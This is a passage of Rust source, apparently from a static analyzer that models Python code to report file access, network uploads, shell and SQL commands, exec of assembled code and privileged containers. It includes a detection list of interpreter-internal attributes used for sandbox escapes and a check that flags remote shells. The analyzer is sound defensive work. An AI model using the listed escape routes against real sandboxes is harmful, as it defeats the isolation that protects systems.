                self.seq(elts)
            }
            Expr::Await(a) => self.eval(&a.value),
            Expr::Starred(s) => self.eval(&s.value),
            _ => self.eval_rest(e),
        }
    }

    #[inline(never)]
    fn eval_rest(&mut self, e: &'a Expr) -> V {
        match e {
            Expr::StringLiteral(s) => {
                let t = s.value.to_str();
                if t.len() > MAX_TEXT {
                    V::Unknown
                } else {
                    V::Str(t.to_string())
                }
            }
            Expr::BytesLiteral(b) => {
                let bytes: Vec<u8> = b.value.bytes().take(MAX_TEXT + 1).collect();
                bytes_text(&bytes)
            }
            Expr::FString(f) => self.fstring(f),
            Expr::TString(t) => {
                for el in t.value.elements() {
                    if let InterpolatedStringElement::Interpolation(i) = el {
                        self.eval(&i.expression);
                    }
                }
                V::Unknown
            }
            Expr::UnaryOp(u) => {
                let v = self.eval(&u.operand);
                match (u.op, v) {
                    (UnaryOp::USub, V::Int(i)) => i.checked_neg().map_or(V::Unknown, V::Int),
                    (UnaryOp::UAdd, v @ V::Int(_)) => v,
                    (UnaryOp::Not, V::Bool(b)) => V::Bool(!b),
                    (UnaryOp::Invert, V::Int(i)) => V::Int(!i),
                    _ => V::Unknown,
                }
            }
            Expr::BoolOp(b) => {
                let mut vals: Vec<V> = Vec::with_capacity(b.values.len());
                for x in &b.values {
                    vals.push(self.eval(x));
                }
                match b.op {
                    BoolOp::Or => alt(vals),
                    BoolOp::And => vals.pop().unwrap_or(V::Unknown),
                }
            }
            Expr::Compare(c) => {
                self.eval(&c.left);
                for x in c.comparators.iter() {
                    self.eval(x);
                }
                V::Unknown
            }
            Expr::If(i) => {
                self.eval(&i.test);
                let a = self.eval(&i.body);
                let b = self.eval(&i.orelse);
                merge(a, b)
            }
            Expr::Lambda(l) => {
                let defaults = match &l.parameters {
                    Some(p) => self.defaults(p),
                    None => Vec::new(),
                };
                let i = self.register(
                    std::ptr::from_ref(l) as usize,
                    l.parameters.as_deref(),
                    Body::Expr(&l.body),
                    defaults,
                );
                V::Func(i)
            }
            Expr::Named(n) => {
                let v = self.eval(&n.value);
                self.assign(&n.target, v.clone());
                v
            }
            Expr::Dict(d) => {
                let mut vals = Vec::with_capacity(d.items.len().min(MAX_SEQ));
                for item in &d.items {
                    if let Some(k) = &item.key {
                        self.eval(k);
                    }
                    let v = self.eval(&item.value);
                    self.escape(&v, &[]);
                    if vals.len() < MAX_SEQ {
                        vals.push(v);
                    }
                }
                V::Dict(vals)
            }
            Expr::Set(s) => {
                for x in &s.elts {
                    let v = self.eval(x);
                    self.escape(&v, &[]);
                }
                V::Unknown
            }
            Expr::ListComp(c) => self.comp(&c.elt, None, &c.generators),
            Expr::Generator(c) => self.comp(&c.elt, None, &c.generators),
            Expr::SetComp(c) => {
                self.comp(&c.elt, None, &c.generators);
                V::Unknown
            }
            Expr::DictComp(c) => {
                self.comp(&c.value, c.key.as_deref(), &c.generators);
                V::Unknown
            }
            Expr::Yield(y) => {
                if let Some(v) = &y.value {
                    self.eval(v);
                }
                V::Unknown
            }
            Expr::YieldFrom(y) => {
                self.eval(&y.value);
                V::Unknown
            }
            Expr::Slice(s) => {
                for p in [&s.lower, &s.upper, &s.step].into_iter().flatten() {
                    self.eval(p);
                }
                V::Unknown
            }
            _ => V::Unknown,
        }
    }

    fn seq(&mut self, elts: &'a [Expr]) -> V {
        let mut out = Vec::with_capacity(elts.len().min(MAX_SEQ));
        let mut too_long = false;
        for e in elts {
            if let Expr::Starred(s) = e {
                match self.eval(&s.value) {
                    V::Seq(xs) => out.extend(xs),
                    _ => out.push(V::Unknown),
                }
            } else {
                let v = self.eval(e);
                out.push(v);
            }
            if out.len() > MAX_SEQ {
                too_long = true;
                out.clear();
            }
        }
        if too_long { V::Unknown } else { V::Seq(out) }
    }

    fn fstring(&mut self, f: &'a ast::ExprFString) -> V {
        let mut outs: Vec<String> = vec![String::new()];
        let outer = self.carried.take();
        for part in f.value.iter() {
            match part {
                FStringPart::Literal(l) => {
                    for o in &mut outs {
                        push_lit(o, l.as_str());
                    }
                }
                FStringPart::FString(fs) => self.interpolated(&fs.elements, &mut outs),
            }
            if outs.iter().any(|o| o.len() > MAX_TEXT) {
                let mine = std::mem::replace(&mut self.carried, outer);
                return mine.unwrap_or(V::Unknown);
            }
        }
        let mine = std::mem::replace(&mut self.carried, outer);
        if let Some(c) = mine {
            return c;
        }
        alt(outs.into_iter().map(text).collect())
    }

    fn interpolated(&mut self, elems: &'a ast::InterpolatedStringElements, outs: &mut Vec<String>) {
        for el in elems.iter() {
            match el {
                InterpolatedStringElement::Literal(l) => {
                    for o in outs.iter_mut() {
                        push_lit(o, &l.value);
                    }
                }
                InterpolatedStringElement::Interpolation(i) => {
                    let v = self.eval(&i.expression);
                    if let Some(c) = content(&v) {
                        self.carried = Some(c.clone());
                    }
                    let mut plain = i.debug_text.is_none();
                    if let Some(spec) = &i.format_spec {
                        let mut scratch = vec![String::new()];
                        self.interpolated(&spec.elements, &mut scratch);
                        plain = false;
                    }
                    let repr = i.conversion == ConversionFlag::Repr;
                    let choices = alts(&v);
                    if plain && outs.len() * choices.len() <= MAX_ALTS {
                        let mut next = Vec::with_capacity(outs.len() * choices.len());
                        for o in outs.iter() {
                            for ch in choices {
                                let mut s = o.clone();
                                if repr && matches!(ch, V::Str(_)) {
                                    s.push('\'');
                                    s.push_str(&tmpl(ch));
                                    s.push('\'');
                                } else {
                                    s.push_str(&tmpl(ch));
                                }
                                next.push(s);
                            }
                        }
                        *outs = next;
                    } else {
                        for o in outs.iter_mut() {
                            o.push(HOLE);
                        }
                    }
                }
            }
        }
    }

    fn comp(&mut self, elt: &'a Expr, val: Option<&'a Expr>, gens: &'a [ast::Comprehension]) -> V {
        let mut names: Vec<&'a str> = Vec::new();
        for g in gens {
            target_names(&g.target, &mut names);
        }
        let saved = self.snapshot(&names);
        let mut result = V::Unknown;
        if let [g] = gens
            && val.is_none()
        {
            let it = self.eval(&g.iter);
            let items: Option<Vec<V>> = match &it {
                _ if !self.spare() => None,
                V::Seq(xs) if xs.len() <= MAX_UNROLL => Some(xs.clone()),
                V::Str(s) if s.chars().count() <= MAX_UNROLL => {
                    Some(s.chars().map(|c| V::Str(c.to_string())).collect())
                }
                _ => None,
            };
            match items {
                Some(items) if g.ifs.is_empty() => {
                    let mut out = Vec::with_capacity(items.len());
                    for x in items {
                        self.assign(&g.target, x);
                        out.push(self.eval(elt));
                    }
                    result = V::Seq(out);
                }
                _ => {
                    let e = self.iter_of(&it);
                    self.assign(&g.target, e);
                    for c in &g.ifs {
                        self.eval(c);
                    }
                    self.eval(elt);
                }
            }
        } else {
            for g in gens {
                let it = self.eval(&g.iter);
                let e = self.iter_of(&it);
                self.assign(&g.target, e);
                for c in &g.ifs {
                    self.eval(c);
                }
            }
            if let Some(k) = val {
                self.eval(k);
            }
            self.eval(elt);
        }
        self.restore(&names, &saved);
        result
    }

    fn binop_chain(&mut self, b: &'a ast::ExprBinOp) -> V {
        // Left-nested chains (`a + b + c + ...`) iteratively.
        let mut chain: Vec<(&'a Expr, Operator)> = Vec::new();
        let mut cur = b;
        let base = loop {
            chain.push((&cur.right, cur.op));
            match &*cur.left {
                Expr::BinOp(l) => cur = l,
                other => break other,
            }
        };
        let mut acc = self.eval(base);
        for (r, op) in chain.into_iter().rev() {
            let rv = self.eval(r);
            acc = self.binop(acc, op, rv);
        }
        acc
    }

    fn binop(&mut self, l: V, op: Operator, r: V) -> V {
        match (op, &l, &r) {
            (Operator::Add, _, _) => concat(&l, &r),
            (Operator::Div, V::Path(p), _) => V::Path(Box::new(join_values(&[(**p).clone(), r]))),
            (Operator::Div, V::Str(_) | V::Tmpl(_), V::Path(p)) => {
                V::Path(Box::new(join_values(&[l.clone(), (**p).clone()])))
            }
            (Operator::Div, V::Alt(xs), _) => {
                let xs = xs.clone();
                alt(xs
                    .into_iter()
                    .map(|x| self.binop(x, op, r.clone()))
                    .collect())
            }
            (Operator::Mod, V::Str(_) | V::Tmpl(_), _) => match content(&r) {
                Some(c) => c.clone(),
                None => percent_format(&tmpl(&l), &r),
            },
            (Operator::Mult, V::Str(_) | V::Tmpl(_) | V::Seq(_), V::Int(n))
            | (Operator::Mult, V::Int(n), V::Str(_) | V::Tmpl(_) | V::Seq(_)) => {
                let unit = if let V::Int(_) = l { &r } else { &l };
                self.repeat(unit, *n)
            }
            (Operator::Mult, V::Str(_) | V::Seq(_), V::Unknown) => V::Unknown,
            (_, V::Int(x), V::Int(y)) => int_binop(*x, op, *y),
            (Operator::BitOr, V::Int(x) | V::Bits(x), V::Unknown | V::Bits(_))
            | (Operator::BitOr, V::Unknown | V::Bits(_), V::Int(x)) => V::Bits(*x | bits(Some(&r))),
            _ => V::Unknown,
        }
    }

    fn repeat(&mut self, unit: &V, n: i64) -> V {
        let len = match unit {
            V::Str(s) | V::Tmpl(s) => s.len(),
            V::Seq(xs) => xs.len(),
            _ => return V::Unknown,
        };
        let n = n.max(0);
        if len == 0 || n == 1 {
            return unit.clone();
        }
        let total = i64::try_from(len).unwrap_or(i64::MAX).saturating_mul(n);
        if total >= HUGE_ALLOC {
            self.opaque("resource exhaustion: allocates a huge amount of memory");
            return V::Unknown;
        }
        let n = usize::try_from(n).unwrap_or(0);
        match unit {
            V::Str(s) if (total as usize) <= MAX_TEXT => V::Str(s.repeat(n)),
            V::Tmpl(s) if (total as usize) <= MAX_TEXT => text(s.repeat(n)),
            V::Seq(xs) if (total as usize) <= MAX_SEQ => {
                let mut out = Vec::with_capacity(total as usize);
                for _ in 0..n {
                    out.extend(xs.iter().cloned());
                }
                V::Seq(out)
            }
            _ => V::Unknown,
        }
    }

    fn subscript(&mut self, s: &'a ast::ExprSubscript) -> V {
        let base = self.eval(&s.value);
        if let Expr::Slice(sl) = &*s.slice {
            let mut get = |e: &'a Option<Box<Expr>>| -> Result<Option<i64>, ()> {
                match e {
                    None => Ok(None),
                    Some(x) => match self.eval(x) {
                        V::Int(i) => Ok(Some(i)),
                        V::None => Ok(None),
                        _ => Err(()),
                    },
                }
            };
            let (lo, hi, st) = (get(&sl.lower), get(&sl.upper), get(&sl.step));
            let (Ok(lo), Ok(hi), Ok(st)) = (lo, hi, st) else {
                return V::Unknown;
            };
            return match &base {
                V::Str(t) => {
                    let chars: Vec<char> = t.chars().collect();
                    match py_slice(chars.len(), lo, hi, st) {
                        Some(ix) => V::Str(ix.into_iter().filter_map(|i| chars.get(i)).collect()),
                        None => V::Unknown,
                    }
                }
                V::Seq(xs) => match py_slice(xs.len(), lo, hi, st) {
                    Some(ix) => V::Seq(ix.into_iter().filter_map(|i| xs.get(i).cloned()).collect()),
                    None => V::Unknown,
                },
                _ => V::Unknown,
            };
        }
        let idx = self.eval(&s.slice);
        self.index(base, idx)
    }

    fn index(&mut self, base: V, idx: V) -> V {
        match (&base, &idx) {
            (V::Sym(q), _) if q == "os.environ" || q == "os.environb" => match &idx {
                V::Str(k) => self.env_var(k),
                _ => V::Unknown,
            },
            (V::Sym(q), _) if q == "sys.modules" => match &idx {
                V::Str(k) => V::Sym(norm_qual(k)),
                _ => {
                    self.opaque("module looked up by a computed name");
                    V::Unknown
                }
            },
            (V::Sym(_), V::Str(k)) if is_ident(k) => self.attr(base.clone(), k),
            (V::Globals, V::Str(k)) => self.lookup(k),
            (V::Seq(xs), V::Int(i)) => py_index(xs.len(), *i)
                .and_then(|j| xs.get(j).cloned())
                .unwrap_or(V::Unknown),
            (V::Str(s), V::Int(i)) => {
                let chars: Vec<char> = s.chars().collect();
                py_index(chars.len(), *i)
                    .and_then(|j| chars.get(j))
                    .map_or(V::Unknown, |c| V::Str(c.to_string()))
            }
            (V::Alt(xs), _) => {
                let xs = xs.clone();
                alt(xs.into_iter().map(|x| self.index(x, idx.clone())).collect())
            }
            _ => V::Unknown,
        }
    }

    fn env_var(&self, k: &str) -> V {
        match k {
            "HOME" => V::Str(self.ctx.home.clone()),
            "PWD" if self.cwd_known => V::Str(self.cwd.clone()),
            "TMPDIR" => V::Str("/tmp".into()),
            _ => V::Unknown,
        }
    }

    /// Attributes that reach interpreter internals (sandbox escapes).
    fn internals(&mut self, name: &str) -> bool {
        let hit = matches!(
            name,
            "__subclasses__"
                | "__globals__"
                | "__code__"
                | "__closure__"
                | "func_globals"
                | "f_globals"
                | "f_locals"
                | "f_builtins"
                | "gi_frame"
        );
        if hit {
            self.opaque(format!("reaches interpreter internals through {name}"));
        }
        hit
    }

    fn attr(&mut self, base: V, name: &str) -> V {
        if self.internals(name) {
            return V::Unknown;
        }
        match base {
            V::Sym(q) => sym_attr(&q, name),
            V::Path(p) => {
                let t = tmpl(&p).into_owned();
                match name {
                    "parent" => V::Path(Box::new(text(dirname(&t)))),
                    "name" => text(basename(&t).to_string()),
                    "stem" => text(file_stem(&t).to_string()),
                    _ => V::Unknown,
                }
            }
            V::Child if name == "pid" => V::Str("$!".into()),
            V::Process(t) if name == "pid" => V::Str(t),
            V::File(p) if name == "name" => *p,
            V::Func(_) | V::Class(_) if name == "__call__" => base,
            V::Class(ci) => self.class_var(ci, name).unwrap_or(V::Unknown),
            V::Obj(id) => {
                if let Some((_, attrs)) = self.objs.get(id)
                    && let Some((_, v)) = attrs.iter().find(|(k, _)| k == name)
                {
                    return v.clone();
                }
                let ci = self.objs.get(id).map_or(usize::MAX, |o| o.0);
                match self.class_var(ci, name) {
                    Some(V::Func(_)) | None => V::Unknown,
                    Some(v) => v,
                }
            }
            V::Alt(xs) => alt(xs.into_iter().map(|x| self.attr(x, name)).collect()),
            _ => V::Unknown,
        }
    }

    // --- calls -----------------------------------------------------------

    fn eval_args(&mut self, a: &'a ast::Arguments) -> Args<'a> {
        let mut out = Args::new(Vec::with_capacity(a.args.len()));
        for e in a.args.iter() {
            if let Expr::Starred(s) = e {
                match self.eval(&s.value) {
                    V::Seq(xs) => out.pos.extend(xs),
                    _ => out.pos.push(V::Unknown),
                }
            } else {
                let v = self.eval(e);
                out.pos.push(v);
            }
        }
        for k in &a.keywords {
            let v = self.eval(&k.value);
            match &k.arg {
                Some(n) => out.kw.push((n.as_str(), v)),
                None => out.star_kw = true,
            }
        }
        out
    }

    fn call_expr(&mut self, call: &'a ast::ExprCall) -> V {
        if let Expr::Attribute(a) = &*call.func {
            let recv = self.eval(&a.value);
            let name = a.attr.as_str();
            if self.internals(name) {
                self.eval_args(&call.arguments);
                return V::Unknown;
            }
            match recv {
                V::Sym(_) | V::Func(_) | V::Class(_) | V::Globals => {
                    let callee = self.attr(recv, name);
                    let args = self.eval_args(&call.arguments);
                    self.call(callee, args)
                }
                V::Obj(id) => {
                    let args = self.eval_args(&call.arguments);
                    let ci = self.objs.get(id).map_or(usize::MAX, |o| o.0);
                    let own = self
                        .objs
                        .get(id)
                        .and_then(|o| o.1.iter().find(|(k, _)| k == name))
                        .map(|(_, v)| v.clone());
                    match (own, self.class_var(ci, name)) {
                        (Some(v), _) => self.call(v, args),
                        (None, Some(V::Func(i))) => {
                            let mut args = args;
                            args.pos.insert(0, V::Obj(id));
                            self.call_func(i, args)
                        }
                        (None, Some(v)) => self.call(v, args),
                        (None, None) => self.unknown_method(name, args),
                    }
                }
                _ => {
                    let args = self.eval_args(&call.arguments);
                    self.method(recv, name, args, &a.value)
                }
            }
        } else {
            let callee = self.eval(&call.func);
            let args = self.eval_args(&call.arguments);
            self.call(callee, args)
        }
    }

    fn call(&mut self, callee: V, args: Args<'a>) -> V {
        match callee {
            V::Sym(q)
                if q.ends_with(".__getattribute__")
                    || q.ends_with(".__getattr__")
                    || (q.ends_with(".get")
                        && kind(&q).is_none()
                        && matches!(args.pos.first(), Some(V::Str(n)) if is_ident(n))) =>
            {
                let base = q.rsplit_once('.').map_or("", |(b, _)| b).to_string();
                match args.pos.first() {
                    Some(V::Str(n)) => {
                        let n = n.clone();
                        self.attr(V::Sym(base), &n)
                    }
                    _ => {
                        if sensitive_module(&base) {
                            self.opaque(format!("getattr of {base} with a computed name"));
                        }
                        V::Unknown
                    }
                }
            }
            V::Sym(q) => match kind(&q) {
                Some(k) => self.call_kind(k, &q, args),
                None => {
                    // Encoders and serializers (`base64.b64encode`, `json.dumps`)
                    // keep carrying a file's content.
                    let carried = args.pos.iter().find_map(content).cloned();
                    self.unknown_call(args);
                    carried.unwrap_or(V::Unknown)
                }
            },
            V::Func(i) => self.call_func(i, args),
            V::Class(ci) => {
                let obj = if self.objs.len() < MAX_OBJS {
                    self.objs.push((ci, Vec::new()));
                    V::Obj(self.objs.len() - 1)
                } else {
                    V::Unknown
                };
                if let Some(V::Func(i)) = self.class_var(ci, "__init__") {
                    let mut a = args;
                    a.pos.insert(0, obj.clone());
                    self.call_func(i, a);
                } else {
                    self.unknown_call(args);
                }
                obj
            }
            V::Alt(vs) => {
                let mut out = Vec::with_capacity(vs.len());
                for v in vs {
                    let a = Args {
                        pos: args.pos.clone(),
                        kw: args.kw.clone(),
                        star_kw: args.star_kw,
                    };
                    out.push(self.call(v, a));
                }
                alt(out)
            }
            _ => {
                self.unknown_call(args);
                V::Unknown
            }
        }
    }

    /// A call of something unknown: functions passed to it may be called.
    fn unknown_call(&mut self, args: Args<'a>) {
        let Args { pos, kw, .. } = args;
        if kw
            .iter()
            .any(|(k, v)| *k == "privileged" && truthy(Some(v)) == Some(true))
            || kw.iter().any(|(k, _)| *k == "cap_add")
        {
            self.push(Op::Privilege {
                how: "privileged container".into(),
            });
        }
        for (i, v) in pos.iter().enumerate() {
            if callable(v) {
                let rest: Vec<V> = pos.get(i + 1..).map(<[V]>::to_vec).unwrap_or_default();
                // `map(f, xs)`-like: f may get each element of a list passed after it.
                let elems: Vec<V> = rest
                    .iter()
                    .filter(|r| matches!(r, V::Seq(_) | V::Iter(_)))
                    .map(iter_elem)
                    .collect();
                self.invoke(v.clone(), rest);
                for e in elems {
                    self.invoke(v.clone(), vec![e]);
                }
            }
        }
        let kw_args: Vec<V> = match kw.iter().find(|(k, _)| *k == "args") {
            Some((_, V::Seq(xs))) => xs.clone(),
            _ => Vec::new(),
        };
        for (_, v) in &kw {
            if callable(v) {
                self.invoke(v.clone(), kw_args.clone());
            }
        }
    }

    fn escape(&mut self, v: &V, args: &[V]) {
        if callable(v) {
            self.invoke(v.clone(), args.to_vec());
        }
    }

    fn invoke(&mut self, f: V, pos: Vec<V>) -> V {
        self.call(f, Args::new(pos))
    }

    fn path_refs(&self, v: &V, out: &mut Vec<PathRef>) {
        for a in alts(v) {
            match a {
                V::Str(s) => out.push(self.lit_path(s)),
                V::Tmpl(t) => out.push(self.tmpl_path(t)),
                V::Seg => out.push(self.tmpl_path("\u{E001}")),
                V::Path(p) | V::File(p) => self.path_refs(p, out),
                V::Int(_) | V::None | V::Bool(_) => {}
                _ => out.push(paths::unknown(&self.cwd, "")),
            }
        }
    }

    fn expand_tilde<'s>(&self, s: &'s str) -> Cow<'s, str> {
        let Some(rest) = s.strip_prefix('~') else {
            return Cow::Borrowed(s);
        };
        let (user, tail) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, ""),
        };
        let home = match user {
            "" => self.ctx.home.clone(),
            "root" => "/root".to_string(),
            u if u
                .chars()
                .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.')) =>
            {
                format!("/home/{u}")
            }
            _ => return Cow::Borrowed(s),
        };
        Cow::Owned(format!("{home}{tail}"))
    }

    fn lit_path(&self, s: &str) -> PathRef {
        let s = self.expand_tilde(s);
        if !self.cwd_known && !s.starts_with('/') {
            return paths::unknown("/", "");
        }
        paths::literal(&self.cwd, &s)
    }

    fn tmpl_path(&self, t: &str) -> PathRef {
        let t = self.expand_tilde(t);
        if !self.cwd_known && !t.starts_with('/') {
            return paths::unknown("/", "");
        }
        let Some(i) = t.find(HOLES) else {
            return paths::literal(&self.cwd, &t);
        };
        if t.starts_with(HOLE) {
            return paths::unknown(&self.cwd, "");
        }
        let rest = &t[i..];
        if rest.contains(HOLE) && rest.chars().all(|c| c == HOLE || c == SEG || c == '/') {
            return paths::unknown(&self.cwd, &t[..i]);
        }
        paths::from_text(&self.cwd, &t.replace(HOLES, "*"), true)
    }

    fn file_op(&mut self, v: Option<&V>, make: fn(PathRef) -> Op) {
        let Some(v) = v else { return };
        let mut refs = Vec::new();
        self.path_refs(v, &mut refs);
        for r in refs {
            self.push(make(r));
        }
    }

    fn read(&mut self, v: Option<&V>) {
        self.file_op(v, |path| Op::FileRead { path });
    }

    fn write(&mut self, v: Option<&V>) {
        self.file_op(v, |path| Op::FileWrite { path });
    }

    fn delete(&mut self, v: Option<&V>, recursive: bool) {
        if recursive {
            self.file_op(v, |path| Op::FileDelete {
                path,
                recursive: true,
            });
        } else {
            self.file_op(v, |path| Op::FileDelete {
                path,
                recursive: false,
            });
        }
    }

    fn mode(&mut self, v: Option<&V>, setid: bool) {
        if setid {
            self.file_op(v, |path| Op::FileMode { path, setid: true });
        } else {
            self.file_op(v, |path| Op::FileMode { path, setid: false });
        }
    }

    fn open_mode(&mut self, path: Option<&V>, mode: Option<&V>, dflt: &str) {
        let write = match mode {
            None | Some(V::None) => dflt.contains(['w', 'a', 'x', '+']),
            Some(V::Str(m)) => m.contains(['w', 'a', 'x', '+']),
            _ => true,
        };
        if write {
            self.write(path)
        } else {
            self.read(path)
        }
    }

    fn net(&mut self, host: String, port: Option<u16>, via: &str) {
        self.last_host = Some(host.clone());
        self.push(Op::Network {
            host,
            port,
            via: via.to_string(),
        });
    }

    /// Values sent over the connection last opened: a file's content among
    /// them is an upload of that file.
    fn send(&mut self, vals: &[V], via: &str) {
        let mut files: Vec<V> = Vec::new();
        for v in vals {
            carried_files(v, &mut files);
        }
        if files.is_empty() {
            return;
        }
        let host = self.last_host.clone().unwrap_or_else(|| "?".to_string());
        for f in files {
            let mut refs = Vec::new();
            self.path_refs(&f, &mut refs);
            for path in refs {
                self.push(Op::Upload {
                    path,
                    host: host.clone(),
                    via: via.to_string(),
                });
            }
        }
    }

    fn send_args(&mut self, a: &Args<'a>, via: &str) {
        let mut vals: Vec<V> = a.pos.clone();
        vals.extend(a.kw.iter().map(|(_, v)| v.clone()));
        self.send(&vals, via);
    }

    fn net_url(&mut self, v: Option<&V>, via: &str) {
        let Some(v) = v else { return };
        for a in alts(v) {
            match a {
                V::Str(_) | V::Tmpl(_) => {
                    let (h, p) = url_target(&tmpl(a));
                    self.net(h, p, via);
                }
                V::Request(r) => {
                    let (u, data) = (**r).clone();
                    self.net_url(Some(&u), via);
                    self.send(std::slice::from_ref(&data), via);
                }
                _ => self.net("?".into(), None, via),
            }
        }
    }

    /// A `(host, port)` address, or `"host"` / `"host:port"` text.
    fn net_addr(&mut self, v: Option<&V>, port: Option<u16>, via: &str) {
        let Some(v) = v else { return };
        for a in alts(v) {
            match a {
                V::Seq(xs) if !xs.is_empty() => {
                    let host = match &xs[0] {
                        V::Str(h) if h.is_empty() => "0.0.0.0".to_string(),
                        V::Str(h) => host_text(h),
                        _ => "?".to_string(),
                    };
                    let p = match xs.get(1) {
                        Some(V::Int(p)) => u16::try_from(*p).ok(),
                        _ => None,
                    };
                    self.net(host, p.or(port), via);
                }
                V::Str(_) | V::Tmpl(_) => {
                    let (h, p) = split_host_port(&tmpl(a));
                    self.net(h, p.or(port), via);
                }
                _ => self.net("?".into(), port, via),
            }
        }
    }

    /// Shell code (a string) or an argv list.
    fn shell(&mut self, cmd: &V, cwd: &str, input: Option<&V>) {
        for a in alts(cmd) {
            match a {
                V::Str(s) => self.nested(Lang::Bash, s, cwd, None),
                V::Tmpl(t) => {
                    if t.trim_start().starts_with(HOLES) {
                        self.opaque("shell command with a computed program");
                    } else {
                        let s = t.replace(HOLES, SHELL_VAR);
                        self.nested(Lang::Bash, &s, cwd, None);
                    }
                }
                V::Seq(items) => self.argv(items, cwd, input),
                V::Path(_) => self.argv(std::slice::from_ref(a), cwd, input),
                _ => self.opaque("subprocess with computed command"),
            }
        }
    }

    fn argv(&mut self, items: &[V], cwd: &str, input: Option<&V>) {
        if items.is_empty() {
            return;
        }
        for line in expand_argv(items) {
            let Some(mut cmd) = argv_line(&line) else {
                self.opaque("subprocess with computed program");
                continue;
            };
            match input {
                Some(inp @ (V::Str(_) | V::Tmpl(_))) => {
                    let body = tmpl(inp).replace(HOLES, SHELL_VAR);
                    let mut delim = String::from("PYEOF");
                    while body.contains(delim.as_str()) {
                        delim.push('_');
                    }
                    cmd.push_str(" <<'");
                    cmd.push_str(&delim);
                    cmd.push_str("'\n");
                    cmd.push_str(&body);
                    if !body.ends_with('\n') {
                        cmd.push('\n');
                    }
                    cmd.push_str(&delim);
                }
                Some(V::None) | None => {}
                Some(_) => {
                    let prog = match line.first() {
                        Some(V::Str(p)) => basename(p).to_string(),
                        _ => String::new(),
                    };
                    if is_interpreter(&prog) {
                        self.opaque("interpreter fed computed input");
                    }
                }
            }
            self.nested(Lang::Bash, &cmd, cwd, None);
        }
    }

    fn sql(&mut self, v: Option<&V>, db: Option<String>, params: bool) {
        let Some(v) = v else { return };
        let db = db
            .or_else(|| self.db.clone())
            .or_else(|| self.ctx.database.clone());
        for a in alts(v) {
            match a {
                V::Str(s) => {
                    let s = if params {
                        sql_params(s)
                    } else {
                        Cow::Borrowed(s.as_str())
                    };
                    let cwd = self.cwd.clone();
                    self.nested(Lang::Sql, &s, &cwd, db.as_deref());
                }
                V::Tmpl(t) => {
                    let mut pre = String::new();
                    let mut whole_predicate = false;
                    for (i, part) in t.split(HOLES).enumerate() {
                        if i > 0 {
                            let tail = pre.trim_end().to_ascii_uppercase();
                            if tail.ends_with("WHERE")
                                || tail.ends_with(" AND")
                                || tail.ends_with(" OR")
                                || tail.ends_with(" ON")
                                || tail.ends_with("HAVING")
                            {
                                whole_predicate = true;
                            }
                            pre.push_str(SQL_VAR);
                        }
                        pre.push_str(part);
                    }
                    if whole_predicate {
                        self.opaque("SQL with a computed condition");
                    } else {
                        let s = if params {
                            sql_params(&pre).into_owned()
                        } else {
                            pre
                        };
                        let cwd = self.cwd.clone();
                        self.nested(Lang::Sql, &s, &cwd, db.as_deref());
                    }
                }
                V::FileText(p) => match &**p {
                    V::Str(s) => {
                        let path = self.lit_path(s).path;
                        self.script_ref(path, Lang::Sql);
                    }
                    _ => self.opaque("SQL read from a computed path"),
                },
                _ => self.opaque("SQL with computed text"),
            }
        }
    }

    fn exec_code(&mut self, v: Option<&V>, what: &str) {
        let Some(v) = v else { return };
        for a in alts(v) {
            match a {
                V::Str(s) => {
                    let s = s.clone();
                    // Code that is not written out in the proposal was decoded
                    // or assembled at run time: shown, but never allowed.
                    if !self.c.written_out(&s) {
                        self.opaque(format!("{what} of decoded or assembled code"));
                    }
                    self.sub_python(&s, what);
                }
                V::Code => {}
                V::FileText(p) => self.script(p, Lang::Python),
                _ => self.opaque(format!("{what} of computed code")),
            }
        }
    }

    fn script(&mut self, p: &V, lang: Lang) {
        for a in alts(p) {
            match a {
                V::Str(s) => {
                    let path = self.lit_path(s).path;
                    self.script_ref(path, lang);
                }
                V::Path(inner) => self.script(inner, lang),
                _ => self.opaque("runs code from a computed path"),
            }
        }
    }

    /// Constant code for `exec`/`eval`/`compile`: analyzed here, seeing this
    /// code's names.
    fn sub_python(&mut self, code: &str, what: &str) {
        if self.exec_depth + self.c.depth() >= self.ctx.max_depth {
            self.opaque(format!(
                "code nested deeper than {} levels",
                self.ctx.max_depth
            ));
            return;
        }
        if too_deep(code) {
            self.opaque("python nests too deeply to inspect");
            return;
        }
        let parsed = parse_unchecked_source(code, PySourceType::Python);
        if let Some(e) = parsed.errors().first() {
            self.opaque(format!("python does not parse: {e}"));
        }
        let mut vars: Vec<(String, V)> = Vec::new();
        for f in [self.frames.first(), self.frames.last()]
            .into_iter()
            .flatten()
        {
            for (k, v) in &f.vars {
                let v = match v {
                    V::Func(_) | V::Class(_) | V::Obj(_) => V::Unknown,
                    other => other.clone(),
                };
                vars.retain(|(x, _)| x != k);
                vars.push((k.clone(), v));
            }
        }
        let cwd = self.cwd.clone();
        let mut w = Walker::new(&mut *self.c, &cwd, self.exec_depth + 1, self.nest);
        w.work = self.work;
        w.frames[0].vars = vars;
        w.stars = self.stars.clone();
        w.db = self.db.clone();
        w.db_api = self.db_api;
        w.cwd_known = self.cwd_known;
        w.module(&parsed.syntax().body);
        let (cwd, known, effects) = (w.cwd, w.cwd_known, w.effects);
        self.work = w.work;
        self.cwd = cwd;
        self.cwd_known = known;
        if effects > 0 {
            self.opaque(format!("{what} of code that has effects"));
        }
    }

    fn child_cwd(&self, v: Option<&V>) -> String {
        match v {
            Some(V::Str(s)) => self.lit_path(s).path,
            Some(V::Path(p)) => match &**p {
                V::Str(s) => self.lit_path(s).path,
                _ => self.cwd.clone(),
            },
            _ => self.cwd.clone(),
        }
    }

    #[inline(never)]
    fn call_kind(&mut self, k: K, q: &str, a: Args<'a>) -> V {
        match k {
            K::Shell => {
                let cmd = a.arg(0, "cmd").or_else(|| a.kw("command")).cloned();
                match cmd {
                    Some(c) => {
                        let cwd = self.cwd.clone();
                        self.shell(&c, &cwd, None);
                    }
                    None => self.opaque("subprocess with computed command"),
                }
                V::Unknown
            }
            K::Proc => {
                let cmd = a.arg(0, "args").cloned().unwrap_or(V::Unknown);
                let shell = if a.star_kw && a.kw("shell").is_none() {
                    None
                } else {
                    truthy(a.kw("shell"))
                };
                let cwd = self.child_cwd(a.kw("cwd"));
                let input = a.kw("input").cloned();
                if ["stdin", "stdout", "stderr"]
                    .iter()
                    .any(|k| matches!(a.kw(k), Some(V::SockFd | V::Socket)))
                {
                    self.opaque("connects a process to a network socket (a remote shell)");
                }
                for c in alts(&cmd) {
                    match c {
                        V::Seq(items) if shell == Some(true) => {
                            if let Some(first) = items.first() {
                                let first = first.clone();
                                self.shell(&first, &cwd, None);
                            }
                        }
